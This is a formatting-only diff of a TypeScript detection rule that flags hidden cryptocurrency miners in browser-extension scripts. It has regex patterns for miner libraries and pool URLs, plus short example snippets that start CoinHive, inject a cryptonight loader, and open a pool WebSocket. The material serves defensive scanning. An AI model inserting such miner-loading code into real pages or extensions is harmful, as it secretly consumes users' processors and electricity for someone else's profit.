@@ -1,13 +1,35 @@
-import { apiPath, callsNamed, callsOf, constant, pattern, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsNamed,
+  callsOf,
+  constant,
+  pattern,
+  writesOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { requestsOf, textsOf } from './network.ts';
 
 /** Objects by which the known miners are started, and names that their loaders have. From public reports. */
-const MINERS = /^(CoinHive|Coinhive|CoinImp|Client|CryptoLoot|CRLT|deepMiner|WebMinePool|WMP|JSECoin|EverythingIsLife|MoneroMiner|webminerpool|CryptoNoter|perfektstart|Minero)\.(Anonymous|User|Token|start|Start|Miner)$/;
-const LOADER = /(coinhive|coin-hive|coinimp|crypto-?loot|cryptonight|deepminer|webminepool|jsecoin|monerominer|webminer|minero\.cc|coin-have|xmr(ig|rig|miner|pool))[\w./-]*\.(min\.)?(js|wasm)(\?|$)/i;
-const POOL = /^(stratum\+(tcp|ssl)|wss?):\/\/[^/]*(pool|xmr|monero|mine(r|xmr)?|hash(vault|range)|nanopool|moneroocean|supportxmr|stratum)[^/]*/i;
-const JOB_WORDS = ['job_id', 'nonce', 'hashrate', 'hashesPerSecond', 'target', 'blob', 'cryptonight', 'submit', 'seed_hash', 'login'];
+const MINERS =
+  /^(CoinHive|Coinhive|CoinImp|Client|CryptoLoot|CRLT|deepMiner|WebMinePool|WMP|JSECoin|EverythingIsLife|MoneroMiner|webminerpool|CryptoNoter|perfektstart|Minero)\.(Anonymous|User|Token|start|Start|Miner)$/;
+const LOADER =
+  /(coinhive|coin-hive|coinimp|crypto-?loot|cryptonight|deepminer|webminepool|jsecoin|monerominer|webminer|minero\.cc|coin-have|xmr(ig|rig|miner|pool))[\w./-]*\.(min\.)?(js|wasm)(\?|$)/i;
+const POOL =
+  /^(stratum\+(tcp|ssl)|wss?):\/\/[^/]*(pool|xmr|monero|mine(r|xmr)?|hash(vault|range)|nanopool|moneroocean|supportxmr|stratum)[^/]*/i;
+const JOB_WORDS = [
+  'job_id',
+  'nonce',
+  'hashrate',
+  'hashesPerSecond',
+  'target',
+  'blob',
+  'cryptonight',
+  'submit',
+  'seed_hash',
+  'login',
+];
 
 export const cryptoMining = defineRule({
   id: 'crypto-mining',
@@ -17,37 +39,69 @@ export const cryptoMining = defineRule({
   category: 'code',
   applies: 'both',
   cwe: 'CWE-506',
-  references: ['https://attack.mitre.org/techniques/T1496/', 'https://developer.chrome.com/docs/webstore/program-policies/malicious-and-prohibited'],
+  references: [
+    'https://attack.mitre.org/techniques/T1496/',
+    'https://developer.chrome.com/docs/webstore/program-policies/malicious-and-prohibited',
+  ],
   why: 'Somebody else earns money with the electricity and the processor of the people who use it, all the time that the browser is open.',
   remedy: 'Take the miner out. Stores forbid it.',
   check: checkScripts(function* ({ script, hit }) {
     for (const value of script.calls) {
       const path = apiPath(script, script.a[value] as number) ?? '';
-      if (MINERS.test(path) && !(path.startsWith('Client.') && !/[0-9a-f]{32,}/.test(constant(script, script.lists[(script.b[value] as number) + 1] ?? 0) ?? ''))) yield hit(value);
+      if (
+        MINERS.test(path) &&
+        !(
+          path.startsWith('Client.') &&
+          !/[0-9a-f]{32,}/.test(constant(script, script.lists[(script.b[value] as number) + 1] ?? 0) ?? '')
+        )
+      )
+        yield hit(value);
     }
     for (const [value, to] of loaded(script)) if (LOADER.test(to)) yield hit(value, { evidence: to });
     const words = JOB_WORDS.filter((word) => script.strings.includes(word)).length;
     for (const request of requestsOf(script)) {
       if (!POOL.test(request.to)) continue;
-      const hashes = words >= 3 || callsOf(script, 'WebAssembly.instantiate', 'WebAssembly.instantiateStreaming', 'WebAssembly.Module').length > 0;
-      if (hashes || request.to.startsWith('stratum')) yield hit(request.value, { evidence: request.to, message: 'It asks a mining pool for work.' });
+      const hashes =
+        words >= 3 ||
+        callsOf(script, 'WebAssembly.instantiate', 'WebAssembly.instantiateStreaming', 'WebAssembly.Module').length > 0;
+      if (hashes || request.to.startsWith('stratum'))
+        yield hit(request.value, { evidence: request.to, message: 'It asks a mining pool for work.' });
     }
     const stratum = textsOf(script).find(({ text }) => /^stratum\+(tcp|ssl):\/\/\S{4,}$/.test(text));
     const pool = textsOf(script).find(({ text }) => POOL.test(text) && /xmr|monero|mine|randomx|hash/i.test(text));
-    if (pool !== undefined && script.strings.some((name) => /^(wallet|pool|threads|hashrate)$/.test(name)) && script.strings.some((name) => /^(hardwareConcurrency|algo|coin|worker_?id)$/i.test(name))) yield hit(pool.value, { evidence: pool.text, confidence: 'medium', message: 'A pool, a wallet and the number of processors are handed on.' });
+    if (
+      pool !== undefined &&
+      script.strings.some((name) => /^(wallet|pool|threads|hashrate)$/.test(name)) &&
+      script.strings.some((name) => /^(hardwareConcurrency|algo|coin|worker_?id)$/i.test(name))
+    )
+      yield hit(pool.value, {
+        evidence: pool.text,
+        confidence: 'medium',
+        message: 'A pool, a wallet and the number of processors are handed on.',
+      });
     if (stratum !== undefined && words >= 2) yield hit(stratum.value, { evidence: stratum.text, confidence: 'medium' });
   }),
   examples: {
     bad: [
       contentExample('const m = new CoinHive.Anonymous("K3Y"); m.start();'),
-      contentExample('const s = document.createElement("script"); s.src = "https://cdn.example/lib/cryptonight.min.js"; document.head.append(s);'),
-      backgroundExample('const ws = new WebSocket("wss://pool.example.net/"); ws.onmessage = (e) => { const j = JSON.parse(e.data); worker.postMessage({ job_id: j.job_id, blob: j.blob, target: j.target, nonce: 0 }); }; ws.send(JSON.stringify({ method: "login" }));'),
+      contentExample(
+        'const s = document.createElement("script"); s.src = "https://cdn.example/lib/cryptonight.min.js"; document.head.append(s);',
+      ),
+      backgroundExample(
+        'const ws = new WebSocket("wss://pool.example.net/"); ws.onmessage = (e) => { const j = JSON.parse(e.data); worker.postMessage({ job_id: j.job_id, blob: j.blob, target: j.target, nonce: 0 }); }; ws.send(JSON.stringify({ method: "login" }));',
+      ),
       backgroundExample('importScripts("vendor/xmrig.wasm.js"); importScripts("vendor/webminer.js");'),
     ],
     good: [
-      backgroundExample('const blocked = ["coinhive.com", "coinhive.min.js", "cryptoloot.pro", "https://x.example/coinhive.min.js"]; block(blocked);'),
-      backgroundExample('const ws = new WebSocket("wss://pool-chat.example.net/"); ws.onmessage = (e) => show(e.data);'),
-      backgroundExample('const c = new Client.User("me"); c.start(); const x = { nonce: crypto.randomUUID(), target: "a", blob: b }; fetch("https://api.example.com/login", { body: x });'),
+      backgroundExample(
+        'const blocked = ["coinhive.com", "coinhive.min.js", "cryptoloot.pro", "https://x.example/coinhive.min.js"]; block(blocked);',
+      ),
+      backgroundExample(
+        'const ws = new WebSocket("wss://pool-chat.example.net/"); ws.onmessage = (e) => show(e.data);',
+      ),
+      backgroundExample(
+        'const c = new Client.User("me"); c.start(); const x = { nonce: crypto.randomUUID(), target: "a", blob: b }; fetch("https://api.example.com/login", { body: x });',
+      ),
     ],
   },
 });
@@ -56,6 +110,10 @@ export const cryptoMining = defineRule({
 function loaded(script: ScriptFacts): [number, string][] {
   const out: [number, string][] = [];
   for (const write of writesOf(script, 'src')) out.push([write.value, pattern(script, write.value)]);
-  for (const call of [...callsOf(script, 'importScripts', 'import', 'Worker', '$.getScript', 'fetch'), ...callsNamed(script, 'setAttribute')]) for (const arg of call.args) out.push([call.value, pattern(script, arg)]);
+  for (const call of [
+    ...callsOf(script, 'importScripts', 'import', 'Worker', '$.getScript', 'fetch'),
+    ...callsNamed(script, 'setAttribute'),
+  ])
+    for (const arg of call.args) out.push([call.value, pattern(script, arg)]);
   return out;
 }
